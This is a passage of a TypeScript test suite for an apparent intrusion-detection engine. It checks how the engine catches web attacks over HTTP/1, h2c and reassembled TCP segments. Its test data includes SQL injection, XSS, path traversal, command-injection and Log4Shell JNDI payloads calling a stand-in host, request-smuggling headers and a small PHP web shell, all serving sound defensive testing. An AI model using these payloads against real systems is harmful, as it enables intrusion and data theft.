    assert.deepEqual(seen(oneRequest(post('application/xhtml+xml', '<html xmlns="http://www.w3.org/1999/xhtml"><body><iframe src="//198.51.100.7/"></iframe></body></html>')).alerts), [[XSS, 4, 'body', '', CLIENT]]);
    // An HTML fragment posted as text/plain still gets the HTML reading.
    const fragment = '<object data="//198.51.100.7/x.swf"></object>';
    assert.deepEqual(seen(oneRequest(post('text/plain', fragment)).alerts), [[XSS, 4, 'body', '', CLIENT]]);
    // The verdict on an XML document is not remembered for the same text sent as another type.
    assert.deepEqual(seen(keepAlive([post('text/xml', fragment), post('text/xml', fragment), post('text/plain', fragment)]).alerts), [[XSS, 10, 'body', '', CLIENT]]);
  });

  it('reads line breaks in a form field or a search as text, and is off with crlf_injection: false', () => {
    const quiet = [
      post('application/x-www-form-urlencoded', 'message=Hi%21%0D%0ANote%3A+the+order+ships+Monday.%0D%0AThanks'),
      get('/search?q=line1%0D%0Aline2'),
      get('/search?q=%E4%B8%8A%E6%B5%B7+hotels'),
    ];
    assert.deepEqual(quiet.flatMap((r) => seen(oneRequest(r).alerts)), []);
    assert.deepEqual(oneRequest(get('/%0d%0aSet-Cookie:crlf=injection'), 'detectors:\n  web_attacks:\n    crlf_injection: false\n').alerts, []);
    // A value with a line break is never remembered clean: the check depends on where it is.
    const body = 'note=a%0D%0ASet-Cookie%3A+x';
    assert.deepEqual(seen(keepAlive([post('application/x-www-form-urlencoded', body), post('application/x-www-form-urlencoded', body), get(`/r?${body}`)]).alerts), [[CRLF, 10, 'query', 'note', CLIENT]]);
  });

  it('raises one alert per attack type of one request, naming each type', () => {
    const out = oneRequest(get('/x?a=%27+OR+1%3D1--&b=%3Cscript%3E&c=..%2F..%2F..%2Fetc%2Fpasswd&d=%3Bid&e=%24%7Bjndi%3Aldap%3A%2F%2Fe%2Fa%7D&f=%27+or+2%3D2--'));
    assert.deepEqual(
      out.alerts.map((a) => [a.signature.sid, a.signature.attackType, a.metadata.field[0]]),
      [
        [SQLI, 'sqli', 'a'],
        [XSS, 'xss', 'b'],
        [TRAVERSAL, 'path_traversal', 'c'],
        [CMDI, 'command_injection', 'd'],
        [LOG4SHELL, 'log4shell', 'e'],
      ],
    );
  });

  it('carries the HTTP transaction and the printable payload, and blocks the client', () => {
    const request = get('/search?q=%27%20OR%201%3D1--%20');
    const out = oneRequest(request);
    const a = out.alerts[0];
    assert.deepEqual(a.http, {
      hostname: 'shop.example',
      httpPort: -1,
      url: '/search?q=%27%20OR%201%3D1--%20',
      httpUserAgent: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
      xff: '',
      httpContentType: '',
      httpRefer: '',
      httpMethod: 'GET',
      protocol: 'HTTP/1.1',
      status: 0,
      redirect: '',
      length: 0,
    });
    assert.equal(a.payloadPrintable, request);
    assert.equal(out.verdicts[3], `[3] ${CLIENT} -> 10.0.0.10 : BLOCK: SQL injection`);
    assert.equal(out.verdicts[2], `[2] ${CLIENT} -> 10.0.0.10 : ALLOW`);
  });

  it('bounds payload_printable to 1 KiB and prints non-printable bytes as dots', () => {
    const body = `q=%27+OR+1%3D1--&pad=${'\x01'.repeat(2000)}`;
    const out = oneRequest(post('application/x-www-form-urlencoded', body));
    const pp = out.alerts[0].payloadPrintable as string;
    assert.equal(pp.length, 1024);
    assert.ok(pp.endsWith('.'.repeat(100)));
  });
});

describe('request smuggling', () => {
  const head = (lines: string): string => `POST /submit HTTP/1.1\r\nHost: shop.example\r\n${lines}\r\n`;

  it('flags a body length a server and a proxy may read differently, naming how', () => {
    const cases: [string, string][] = [
      [head('Content-Length: 6\r\nTransfer-Encoding: chunked\r\n') + '0\r\n\r\nG', 'Content-Length beside Transfer-Encoding: chunked'],
      [head('Transfer-Encoding: xchunked\r\nContent-Length: 4\r\n') + '5c\r\n', 'Content-Length beside Transfer-Encoding: xchunked'],
      [head('Content-Length: 4\r\nContent-Length: 40\r\n') + 'a=1&', 'conflicting Content-Length values'],
      [head('Content-Length: -5\r\n') + "id=1' OR 1=1--", 'invalid Content-Length'],
    ];
    for (const [request, rule] of cases) {
      const out = oneRequest(request);
      const smuggling = out.alerts.filter((a) => a.signature.sid === SMUGGLING);
      assert.deepEqual(seen(smuggling), [[SMUGGLING, 4, 'header', 'content-length', CLIENT]], rule);
      assert.deepEqual(smuggling[0].metadata.rule, [rule]);
      assert.deepEqual(smuggling[0].metadata.anomalies ?? [], []);
      assert.equal(smuggling[0].signature.attackType, 'request_smuggling');
      assert.equal(smuggling[0].action, 'blocked');
    }
    assert.deepEqual(oneRequest(head('Content-Length: 6\r\nTransfer-Encoding: chunked\r\n') + '0\r\n\r\nG').alerts[0].metadata.evidence, ['6']);
    // Both headers behind 2 KB of padding, in a later window of the head.
    const padded = head(`${'X-Pad: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n'.repeat(48)}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n`) + '0\r\n\r\nG';
    const late = oneRequest(padded, 'http:\n  max_header_bytes: 1024\n').alerts.filter((a) => a.signature.sid === SMUGGLING);
    assert.deepEqual([late[0].metadata.rule, late[0].metadata.evidence], [['Content-Length beside Transfer-Encoding: chunked'], ['6']]);
  });

  it('lets one Content-Length, chunked coding alone, and a repeated equal length pass', () => {
    for (const request of [
      head('Content-Length: 3\r\n') + 'a=1',
      head('Transfer-Encoding: chunked\r\n') + '3\r\na=1\r\n0\r\n\r\n',
      head('Content-Length: 3\r\nContent-Length: 3\r\n') + 'a=1',
    ]) {
      assert.deepEqual(oneRequest(request).alerts, []);
    }
  });

  it('is off with request_smuggling: false', () => {
    const out = oneRequest(head('Content-Length: 6\r\nTransfer-Encoding: chunked\r\n') + '0\r\n\r\nG', 'detectors:\n  web_attacks:\n    request_smuggling: false\n');
    assert.deepEqual(out.alerts, []);
  });
});

describe('payloads pushed past body_limit by padding', () => {
  /** A request sent in 1,448-byte segments. */
  const segmented = (request: string): RunOutput => {
    const c = new Conn({ t0: T0 }).handshake();
    for (let i = 0; i < request.length; i += 1448) c.send(request.slice(i, i + 1448));
    return run(c.serverAck().reply(OK).close().frames);
  };

  it('finds an attack in the last argument of a 70 KB form, and says the body was cut', () => {
    const out = segmented(post('application/x-www-form-urlencoded', `pad=${'A'.repeat(70_000)}&id=1%27+OR+1%3D1--`));
    assert.deepEqual(out.alerts.map((a) => [a.signature.sid, a.metadata.location[0], a.metadata.field?.[0], a.metadata.anomalies]), [[SQLI, 'body', 'id', ['body_truncated']]]);
  });

  it('finds a web shell in the last part of a 70 KB multipart body', () => {
    const b = 'PaDdEd';
    const body = `--${b}\r\nContent-Disposition: form-data; name="pad"\r\n\r\n${'A'.repeat(70_000)}\r\n--${b}\r\nContent-Disposition: form-data; name="f"; filename="x.php"\r\n\r\n<?php system($_GET['c']); ?>\r\n--${b}--\r\n`;
    const out = segmented(post(`multipart/form-data; boundary=${b}`, body));
    assert.deepEqual(out.alerts.map((a) => [a.signature.sid, a.metadata.location[0], a.metadata.field?.[0]]), [[CMDI, 'file', 'f']]);
  });

  it("reads the string members of a 70 KB JSON body's end, which does not parse", () => {
    const out = segmented(post('application/json', `{"pad":"${'A'.repeat(70_000)}","user":{"name":"ann","id":"1' OR 1=1--"}}`));
    assert.deepEqual(out.alerts.map((a) => [a.signature.sid, a.metadata.location[0], a.metadata.field?.[0], a.metadata.anomalies]), [[SQLI, 'json', 'id', ['body_truncated']]]);
    // A cut inside a string: the members after the next member start are read, not the string's rest.
    const inside = segmented(post('application/json', `{"note":"${'A'.repeat(70_000)} it's 1' OR 1=1","ok":"fine"}`));
    assert.deepEqual(inside.alerts, []);
  });
});

describe('payloads pushed past max_header_bytes or max_headers by padding', () => {
  const JNDI = 'User-Agent: ${jndi:ldap://198.51.100.7/a}\r\n';
  /** `n` header lines of 52 bytes each. */
  const pad = (n: number): string => Array.from({ length: n }, (_, i) => `X-Pad-${String(i).padStart(3, '0')}: ${'a'.repeat(40)}\r\n`).join('');
  const small = 'http:\n  max_header_bytes: 1024\n';

  it('inspects headers after the first max_header_bytes of a head (Apache takes 800 KB heads)', () => {
    // With the defaults: 300 headers of 240 bytes (72 KB), then the attack, in 1,448-byte segments.
    const big = `GET / HTTP/1.1\r\nHost: shop.example\r\n${Array.from({ length: 300 }, (_, i) => `X-Pad-${i}: ${'a'.repeat(240)}\r\n`).join('')}${JNDI}\r\n`;
    const c = new Conn({ t0: T0 }).handshake();
    for (let i = 0; i < big.length; i += 1448) c.send(big.slice(i, i + 1448));
    const out = run(c.serverAck().reply(OK).close().frames);
    assert.deepEqual(seen(out.alerts), [[LOG4SHELL, 3 + Math.ceil(big.length / 1448), 'header', 'user-agent', CLIENT]]);
    // Windows of 1 KB: the attack in the last window, and in a middle one.
    assert.deepEqual(seen(oneRequest(`GET / HTTP/1.1\r\n${pad(60)}${JNDI}\r\n`, small).alerts), [[LOG4SHELL, 4, 'header', 'user-agent', CLIENT]]);
    const middle = `GET / HTTP/1.1\r\n${pad(30)}X-Note: 1' UNION SELECT password FROM users--\r\n${pad(30)}\r\n`;
    assert.deepEqual(seen(oneRequest(middle, small).alerts), [[SQLI, 4, 'header', 'x-note', CLIENT]]);
    // After a header line longer than a window.
    assert.deepEqual(seen(oneRequest(`GET / HTTP/1.1\r\nX-Long: ${'b'.repeat(3000)}\r\n${JNDI}\r\n`, small).alerts), [[LOG4SHELL, 4, 'header', 'user-agent', CLIENT]]);
  });

  it('reads the body behind a long head as the whole head frames it, and the request after it', () => {
    const body = 'user=admin%27--&pass=x';
    const early = `POST /login HTTP/1.1\r\nContent-Length: ${body.length}\r\nContent-Type: application/x-www-form-urlencoded\r\n${pad(60)}\r\n${body}`;
    const late = `POST /login HTTP/1.1\r\n${pad(60)}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
    for (const request of [early, late]) {
      const out = keepAlive([request, get('/item?id=5+UNION+SELECT+1,2--')], small);
      assert.deepEqual(seen(out.alerts), [
        [SQLI, 4, 'body', 'user', CLIENT],
        [SQLI, 7, 'query', 'id', CLIENT],
      ]);
    }
  });

  it('inspects the part of a long head held when the flow ends', () => {
    const c = new Conn({ t0: T0 }).handshake().send(`GET / HTTP/1.1\r\n${pad(60)}${JNDI}`).close();
    const out = run(c.frames, small);
    assert.deepEqual(
      out.alerts.map((a) => [a.signature.sid, a.metadata.location[0], a.metadata.field?.[0]]),
      [[LOG4SHELL, 'header', 'user-agent']],
    );
  });

  it('reads a never-ending head in bounded memory', () => {
    // 200 KB of headers through a 64 KB memcap: each 1 KB window is let go once inspected.
    const c = new Conn({ t0: T0 }).handshake();
    const head = `GET / HTTP/1.1\r\n${pad(4000)}${JNDI}`;
    for (let i = 0; i < head.length; i += 1448) c.send(head.slice(i, i + 1448));
    const out = run(c.close().frames, `${small}  memcap: 65536\n`);
    assert.deepEqual(out.alerts.map((a) => a.signature.sid), [LOG4SHELL]);
    assert.deepEqual([out.engine.http.stats.memcap_hits, out.engine.http.stats.buffered_bytes], [0, 0]);
  });

  it('inspects the headers past max_headers as one value', () => {
    const out = oneRequest(`GET / HTTP/1.1\r\n${'A: 1\r\n'.repeat(10)}X-Note: 1' UNION SELECT password FROM users--\r\n\r\n`, 'http:\n  max_headers: 8\n');
    assert.deepEqual(seen(out.alerts), [[SQLI, 4, 'header', '', CLIENT]]);
    assert.deepEqual(out.alerts[0].metadata.anomalies, ['headers_too_large']);
  });
});

describe('web attacks over HTTP/2 in cleartext (h2c)', () => {
  const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
  /** One frame: 24-bit length, type, flags, stream id, payload. */
  const frame = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
    const h = Buffer.alloc(9);
    h.writeUIntBE(payload.length, 0, 3);
    h[3] = type;
    h[4] = flags;
    h.writeUInt32BE(stream, 5);
    return Buffer.concat([h, payload]);
  };
  const where = (out: RunOutput): [number, string, string][] => out.alerts.map((a) => [a.signature.sid, a.metadata.location[0], a.metadata.field?.[0] ?? '']);

  it("inspects every stream of a prior-knowledge connection from Node's http2 client, whole or in 7-byte segments", async () => {
    const bytes = await h2ClientBytes([
      { headers: { ':path': '/search?q=%27%20OR%201%3D1--', 'user-agent': 'curl/8.5.0' } },
      { headers: { ':method': 'POST', ':path': '/login', 'content-type': 'application/x-www-form-urlencoded' }, body: 'user=admin%27--&pass=x' },
      { headers: { ':path': '/', cookie: 'a=1', 'x-api': '${jndi:ldap://198.51.100.7/a}' } },
      { headers: { ':method': 'get', ':path': '/products?q=red+shoes&sort=price_asc', 'accept-language': 'en-GB' } },
    ]);
    for (const size of [bytes.length, 7]) {
      const c = new Conn({ t0: T0 }).handshake();
      for (let i = 0; i < bytes.length; i += size) c.send(bytes.subarray(i, i + size));
      const out = run(c.serverAck().close().frames);
      assert.deepEqual(where(out), [[SQLI, 'query', 'q'], [LOG4SHELL, 'header', 'x-api'], [SQLI, 'body', 'user']], `${size}-byte segments`);
      if (size === bytes.length) assert.deepEqual(out.alerts.map((a) => a.pcapCnt), [4, 4, 4]);
      assert.deepEqual([out.alerts[0].http?.protocol, out.alerts[0].http?.hostname, out.alerts[0].srcIp], ['HTTP/2.0', 'shop.example', CLIENT]);
      const h = out.engine.http.stats;
      assert.deepEqual([h.requests, h.http2_requests, h.request_bodies, h.transactions, h.http2_prior_knowledge, h.http2_errors, h.buffered_bytes], [4, 4, 1, 4, 1, 0, 0]);
    }
  });

  it('logs each HTTP/2 transaction with the status, type and length the server answered on its stream', async () => {
    const bytes = await h2ClientBytes([{ headers: { ':path': '/a' } }, { headers: { ':path': '/b' } }]);
    // SETTINGS; stream 3 answered first (204, :status as a literal), then stream 1 (a 100, then 500 with a type and 5 bytes).
    const status = (code: string): Buffer => Buffer.concat([Buffer.from([0x08, code.length]), Buffer.from(code)]);
    const answer = Buffer.concat([
      frame(4, 0, 0, Buffer.alloc(0)),
      frame(1, 0x5, 3, status('204')),
      frame(1, 0x4, 1, status('100')),
      frame(1, 0x4, 1, Buffer.concat([Buffer.from([0x8e, 0x5f, 10]), Buffer.from('text/plain')])),
      frame(0, 0x1, 1, Buffer.from('oops!')),
    ]);
    const c = new Conn({ t0: T0 }).handshake().send(bytes).serverAck().reply(answer);
    const out = run(c.close().frames, 'outputs:\n  http_events: true\n');
    const http = out.events.filter((e) => e.type === 'http').map((e) => (e.type === 'http' ? [e.txId, e.http.url, e.http.status, e.http.httpContentType, e.http.length, e.pcapCnt] : []));
    assert.deepEqual(http, [
      [1, '/b', 204, '', 0, 6],
      [0, '/a', 500, 'text/plain', 5, 6],
    ]);
  });

  it('reads the connection an Upgrade: h2c answered 101 turns into', async () => {
    const upgrade = 'GET / HTTP/1.1\r\nHost: shop.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n';
    const bytes = await h2ClientBytes([{ headers: { ':path': '/item?id=5+UNION+SELECT+1,2--' } }]);
    const c = new Conn({ t0: T0 }).handshake().send(upgrade).serverAck().reply('HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n').send(bytes);
    const out = run(c.close().frames);
    assert.deepEqual(seen(out.alerts), [[SQLI, 7, 'query', 'id', CLIENT]]);
    assert.deepEqual([out.engine.http.stats.http2_upgrades, out.engine.http.stats.tunnels, out.engine.http.stats.requests], [1, 0, 2]);
  });

  it('inspects the body of a stream the client resets, and gives up a connection whose header block does not decode', () => {
    // HEADERS: :method POST (static 3), :path /login, content-type (static 31) form; then DATA, then RST_STREAM.
    const block = Buffer.concat([Buffer.from([0x83, 0x44, 6]), Buffer.from('/login'), Buffer.from([0x5f, 33]), Buffer.from('application/x-www-form-urlencoded')]);
    const c = new Conn({ t0: T0 }).handshake();
    c.send(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0)), frame(1, 0x4, 1, block)]));
    c.send(frame(0, 0, 1, Buffer.from('user=admin%27--&pass=x')));
    c.send(frame(3, 0, 1, Buffer.from([0, 0, 0, 8])));
    const out = run(c.serverAck().close().frames);
    // Inspected at the reset (frame 6), its transaction logged.
    assert.deepEqual(seen(out.alerts), [[SQLI, 6, 'body', 'user', CLIENT]]);
    assert.deepEqual([out.engine.http.stats.request_bodies, out.engine.http.stats.transactions], [1, 1]);
    // A form padded past body_limit: its end is read, as for HTTP/1.
    const padded = Buffer.from(`pad=${'A'.repeat(70_000)}&id=1%27+OR+1%3D1--`);
    const data: Buffer[] = [];
    for (let i = 0; i < padded.length; i += 16_384) data.push(frame(0, i + 16_384 >= padded.length ? 0x1 : 0, 1, padded.subarray(i, i + 16_384)));
    const all = Buffer.concat([PREFACE, frame(1, 0x4, 1, block), ...data]);
    const long = new Conn({ t0: T0 }).handshake();
    for (let i = 0; i < all.length; i += 1448) long.send(all.subarray(i, i + 1448));
    const tailOut = run(long.close().frames);
    assert.deepEqual(tailOut.alerts.map((a) => [a.signature.sid, a.metadata.location[0], a.metadata.field?.[0], a.metadata.anomalies]), [[SQLI, 'body', 'id', ['body_truncated']]]);
    assert.equal(tailOut.engine.http.stats.buffered_bytes, 0);
    // Trailers after the body are inspected too: HEADERS, DATA, then a HEADERS block that ends the stream.
    const trailer = Buffer.concat([Buffer.from([0x40, 5]), Buffer.from('x-api'), Buffer.from([29]), Buffer.from('${jndi:ldap://198.51.100.7/a}')]);
    const t = new Conn({ t0: T0 }).handshake().send(Buffer.concat([PREFACE, frame(1, 0x4, 1, block)])).send(frame(0, 0, 1, Buffer.from('user=ann'))).send(frame(1, 0x5, 1, trailer));
    assert.deepEqual(seen(run(t.close().frames).alerts), [[LOG4SHELL, 6, 'header', 'x-api', CLIENT]]);
    // A line break in a field (which RFC 9113 forbids) does not end the head written for it: the field after it is read.
    const hidden = Buffer.concat([Buffer.from([0x82, 0x84, 0x40, 1]), Buffer.from('x'), Buffer.from([8]), Buffer.from('a\r\n\r\nb: '), Buffer.from([0x40, 5]), Buffer.from('x-api'), Buffer.from([29]), Buffer.from('${jndi:ldap://198.51.100.7/a}')]);
    const crlf = new Conn({ t0: T0 }).handshake().send(Buffer.concat([PREFACE, frame(1, 0x5, 1, hidden)]));
    assert.deepEqual(seen(run(crlf.close().frames).alerts), [[LOG4SHELL, 4, 'header', 'x-api', CLIENT]]);
    // A dynamic table of 8 KB is the client's to use only once the server's SETTINGS allow it.
    const get8k = Buffer.concat([Buffer.from([0x3f, 0xe1, 0x3f, 0x82, 0x44, 17]), Buffer.from('/?id=1+OR+1%3D1--')]);
    const serverSettings = frame(4, 0, 0, Buffer.from([0, 1, 0, 0, 0x20, 0]));
    const allowed = new Conn({ t0: T0 }).handshake().send(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))])).serverAck().reply(serverSettings).send(frame(1, 0x5, 1, get8k));
    const unallowed = new Conn({ t0: T0 }).handshake().send(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))])).send(frame(1, 0x5, 1, get8k));
    assert.deepEqual(seen(run(allowed.close().frames).alerts), [[SQLI, 7, 'query', 'id', CLIENT]]);
    assert.equal(run(unallowed.close().frames).engine.http.stats.http2_errors, 1);
    // Index 64 is in no table: the block cannot be read, nor can anything after it.
    const bad = new Conn({ t0: T0 }).handshake().send(Buffer.concat([PREFACE, frame(1, 0x5, 1, Buffer.from([0xc0]))])).send(frame(1, 0x5, 3, block));
    const out2 = run(bad.close().frames);
    assert.deepEqual([out2.alerts.length, out2.engine.http.stats.http2_errors, out2.engine.http.stats.requests], [0, 1, 0]);
  });
});

describe('exempt fields', () => {
  /** A code submission form: the language, and a shell script as the code. */
  const submission = (path: string, lang: string): string => {
    const body = `lang=${lang}&code=${encodeURIComponent('#!/bin/bash\nls -la | grep foo; cat /etc/passwd')}`;
    return `POST ${path} HTTP/1.1\r\nHost: judge.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
  };
  const yaml = (...entries: string[]): string => `detectors:\n  web_attacks:\n    exempt: [${entries.map((e) => JSON.stringify(e)).join(', ')}]\n`;

  it('skips the named field under the path prefix, and nothing else', () => {
    // Without an exemption a code submission is command injection and traversal.
    assert.deepEqual(seen(oneRequest(submission('/judge/submit', 'bash')).alerts).map((a) => a[3]), ['code', 'code']);
    const out = oneRequest(submission('/judge/submit', 'bash'), yaml('/judge/ code'));
    assert.deepEqual(out.alerts, []);
    assert.equal(out.engine.detect.collectStats().http_fields_exempt, 1);
    // Another field of the same request, and the same field on another path, are inspected.
    assert.deepEqual(seen(oneRequest(submission('/judge/submit', "1'+OR+1=1--"), yaml('/judge/ code')).alerts), [[SQLI, 4, 'body', 'lang', CLIENT]]);
    assert.deepEqual(seen(oneRequest(submission('/other', 'bash'), yaml('/judge/ code')).alerts).map((a) => a[3]), ['code', 'code']);
  });

  it('takes a name prefix with a trailing * and every field with a lone *', () => {
    assert.deepEqual(oneRequest(submission('/judge/submit', "1'+OR+1=1--"), yaml('/judge/ *')).alerts, []);
    assert.deepEqual(seen(oneRequest(submission('/judge/submit', "1'+OR+1=1--"), yaml('/judge/ co*')).alerts), [[SQLI, 4, 'body', 'lang', CLIENT]]);
  });

  it('refuses an entry that is not a path prefix and a field', () => {
    assert.throws(() => oneRequest(get('/'), yaml('judge code')), /exempt entry 1 "judge code": expected "PATH_PREFIX FIELD"/);
    assert.throws(() => oneRequest(get('/'), yaml('/judge')), /exempt entry 1 "\/judge"/);
  });

  it('keeps the running detectors when a reload brings a bad entry', () => {
    const events: EngineEvent[] = [];
    const engine = new Engine(parseConfig(SECTIONS, yaml('/judge/ code'), 'a.yaml'), [{ onEvent: (ev) => events.push(ev), close: async () => {} }]);
    assert.throws(() => engine.reconfigure(parseConfig(SECTIONS, yaml('judge'), 'b.yaml')), /exempt entry 1/);
    const c = new Conn({ t0: T0 }).handshake().send(submission('/judge/submit', "1'+OR+1=1--")).serverAck().reply(OK).close();
    for (const f of c.frames) engine.processFrame(f.frame, 0, f.frame.length, f.frame.length, f.tsUs, 0, 1);
    engine.finish();
    // The web detector and its exemption are the ones loaded first: the code is skipped, the language not.
    assert.deepEqual(events.filter((e) => e.type === 'alert').map((e) => (e.type === 'alert' ? [e.signature.sid, e.metadata.field?.[0]] : [])), [[SQLI, 'lang']]);
  });
});

describe('web attacks across TCP segments', () => {
  const REQ = get('/search?q=%27%20UNION%20SELECT%20password%20FROM%20users--');

  it('finds an attack split across two segments, at the second', () => {
    const c = new Conn({ t0: T0 }).handshake().sendSplit(REQ, [30]).serverAck().reply(OK).close();
    assert.deepEqual(seen(run(c.frames).alerts), [[SQLI, 5, 'query', 'q', CLIENT]]);
  });

  it('finds an attack split across three segments inside its keywords, at the third', () => {
    const cut1 = REQ.indexOf('UNI') + 3;
    const cut2 = REQ.indexOf('SEL') + 2;
    const c = new Conn({ t0: T0 }).handshake().sendSplit(REQ, [cut1, cut2]).serverAck().reply(OK).close();
    assert.deepEqual(seen(run(c.frames).alerts), [[SQLI, 6, 'query', 'q', CLIENT]]);
  });

  it('reorders segments that arrive out of order and alerts when the hole fills', () => {
    const cut = 40;
    const c = new Conn({ t0: T0 }).handshake();
    c.send(REQ.slice(cut), cut);
    c.send(REQ.slice(0, cut), 0).serverAck().reply(OK).close();
    const out = run(c.frames);
    assert.deepEqual(seen(out.alerts), [[SQLI, 5, 'query', 'q', CLIENT]]);
    assert.equal(out.engine.stream.stats.out_of_order, 1);
  });

  it('keeps the first copy of a retransmitted segment: a later, malicious copy is never inspected', () => {
    const benign = get('/search?q=AAAAAAAAAAAAAAAAAAAAAA');
    const evil = get('/search?q=%27+OR+1%3D1--+AAAAAAA');
    assert.equal(benign.length, evil.length);
    const c = new Conn({ t0: T0 }).handshake();
    c.send(benign.slice(0, 40), 0).send(evil.slice(0, 40), 0).send(benign.slice(40), 40).serverAck().reply(OK).close();
    const out = run(c.frames);
    assert.deepEqual(out.alerts, []);
    assert.equal(out.engine.stream.stats.retransmissions, 1);
  });

  it('keeps the first copy of a retransmitted segment: a later, benign copy does not hide the attack', () => {
    const benign = get('/search?q=AAAAAAAAAAAAAAAAAAAAAA');
    const evil = get('/search?q=%27+OR+1%3D1--+AAAAAAA');
    const c = new Conn({ t0: T0 }).handshake();
    c.send(evil.slice(0, 40), 0).send(benign.slice(0, 40), 0).send(evil.slice(40), 40).serverAck().reply(OK).close();
    assert.deepEqual(seen(run(c.frames).alerts), [[SQLI, 6, 'query', 'q', CLIENT]]);
  });

  it('keeps the first held copy of an out-of-order segment and reports the contradiction', () => {
    const benign = get('/search?q=AAAAAAAAAAAAAAAAAAAAAA');
    const evil = get('/search?q=%27+OR+1%3D1--+AAAAAAA');
    const c = new Conn({ t0: T0 }).handshake();
    c.send(evil.slice(20), 20).send(benign.slice(20), 20).send(evil.slice(0, 20), 0).serverAck().reply(OK).close();
    const out = run(c.frames);
    assert.deepEqual(seen(out.alerts), [[SQLI, 6, 'query', 'q', CLIENT]]);
    const anomalies = out.events.filter((e) => e.type === 'anomaly').map((e) => [e.type === 'anomaly' ? e.event : '', e.type === 'anomaly' ? e.pcapCnt : 0]);
    assert.deepEqual(anomalies, [['stream.reassembly_overlap_different_data', 5]]);
    assert.equal(out.engine.stream.stats.overlap_different_data, 1);
  });

  it('ignores junk sent past the window the server offered: it cannot push a gap over the attack sent after it', () => {
    // Window 64240 << 7 (8 MB) after the server's ACK: 300 segments 20 MB ahead, which the server drops, then the attack.
    const c = new Conn({ t0: T0, wscale: 7 }).handshake().serverAck();
    for (let k = 0; k < 300; k++) c.send('x'.repeat(100), 20_000_000 + k * 100);
    c.send(REQ, 0);
    const out = run(c.serverAck(REQ.length).reply(OK).frames);
    assert.deepEqual(seen(out.alerts), [[SQLI, 305, 'query', 'q', CLIENT]]);
    assert.deepEqual([out.engine.stream.stats.out_of_window, out.engine.stream.stats.gaps], [300, 0]);
  });

  it('takes a first segment of just "H" for the start of a HEAD request, not of a response', () => {
    // Read as the start of "HTTP/", it turned the flow around: every request on it went uninspected.
    const rest = 'EAD /?q=<script>alert(1)</script> HTTP/1.1\r\nHost: x\r\n\r\nGET /search?q=%27%20OR%201%3D1--%20 HTTP/1.1\r\nHost: x\r\n\r\n';
    const c = new Conn({ t0: T0 }).handshake().send('H').send(rest).serverAck().reply(OK).close();
    assert.deepEqual(seen(run(c.frames).alerts), [
      [XSS, 5, 'query', 'q', CLIENT],
      [SQLI, 5, 'query', 'q', CLIENT],
    ]);
  });

  it('inspects each of pipelined requests sent in one segment', () => {
    const reqs = get('/a?x=1') + get('/b?q=%3Cscript%3Ealert(1)%3C/script%3E') + get('/c?y=2') + get('/d?id=1+or+1%3D1');
    const c = new Conn({ t0: T0 }).handshake().send(reqs).serverAck().reply(OK + OK + OK + OK).close();
    const out = run(c.frames);
    assert.deepEqual(seen(out.alerts), [
      [XSS, 4, 'query', 'q', CLIENT],
      [SQLI, 4, 'query', 'id', CLIENT],
    ]);
    assert.deepEqual(out.alerts.map((a) => a.http?.url), ['/b?q=%3Cscript%3Ealert(1)%3C/script%3E', '/d?id=1+or+1%3D1']);
    assert.equal(out.engine.http.stats.requests, 4);
  });

  it('reads each body of pipelined POST requests sent in one segment from its own place', () => {
    const form = 'application/x-www-form-urlencoded';
    const reqs = post(form, 'q=please+select+your+union&page=2') + post(form, 'user=admin%27+OR+%271%27%3D%271&pass=x') + post(form, 'note=hello');
    const c = new Conn({ t0: T0 }).handshake().send(reqs).serverAck().reply(OK + OK + OK).close();
    const out = run(c.frames);
    assert.deepEqual(seen(out.alerts), [[SQLI, 4, 'body', 'user', CLIENT]]);
    assert.deepEqual(out.alerts.map((a) => a.metadata.evidence), [["admin' OR '1'='1"]]);
    assert.equal(out.engine.http.stats.request_bodies, 3);
  });

  it("logs Suricata's http_port, xff and redirect: curl to python's http.server on 8080, a directory without its slash", () => {
    // The bytes curl 7.88.1 and http.server (Python 3.11) exchanged, read where a head comes whole;
    // then a request through a proxy, whose answer's head comes in two segments (read as text).
    const request = 'GET /docs HTTP/1.1\r\nHost: 10.99.0.2:8080\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\nX-Forwarded-For: 203.0.113.9\r\n\r\n';
    const moved = 'HTTP/1.0 301 Moved Permanently\r\nServer: SimpleHTTP/0.6 Python/3.11.2\r\nDate: Sun, 22 Nov 2026 07:11:52 GMT\r\nLocation: /docs/\r\nContent-Length: 0\r\n\r\n';
    const proxied = 'GET http://shop.example:3128/a HTTP/1.1\r\nHost: shop.example\r\n\r\n';
    const page = 'HTTP/1.1 201 Created\r\nContent-Type: text/html; charset=utf-8\r\nLocation: /a/7\r\nContent-Length: 3\r\n\r\nhi\n';
    const c = new Conn({ t0: T0, dport: 8080 }).handshake().send(request).serverAck().reply(moved).send(proxied).serverAck().reply(page.slice(0, 20)).reply(page.slice(20));
    const out = run(c.close().frames, 'outputs:\n  http_events: true\n');
    const http = out.events.filter((e) => e.type === 'http').map((e) => (e.type === 'http' ? e.http : null));
    assert.deepEqual(
      http.map((h) => [h?.httpPort, h?.xff, h?.status, h?.redirect, h?.httpContentType]),
      [
        [8080, '203.0.113.9', 301, '/docs/', ''],
        [3128, '', 201, '/a/7', 'text/html; charset=utf-8'],
      ],
    );
  });

  it('alerts on every malicious request of a keep-alive connection (no re-alert suppression)', () => {
    const out = keepAlive([0, 1, 2].map((i) => get(`/item?id=${i}+or+1%3D1`)), 'outputs:\n  http_events: true\n');
    assert.deepEqual(
      out.alerts.map((a) => [a.signature.sid, a.pcapCnt, a.http?.url, a.txId, a.action]),
      [
        [SQLI, 4, '/item?id=0+or+1%3D1', 0, 'blocked'],
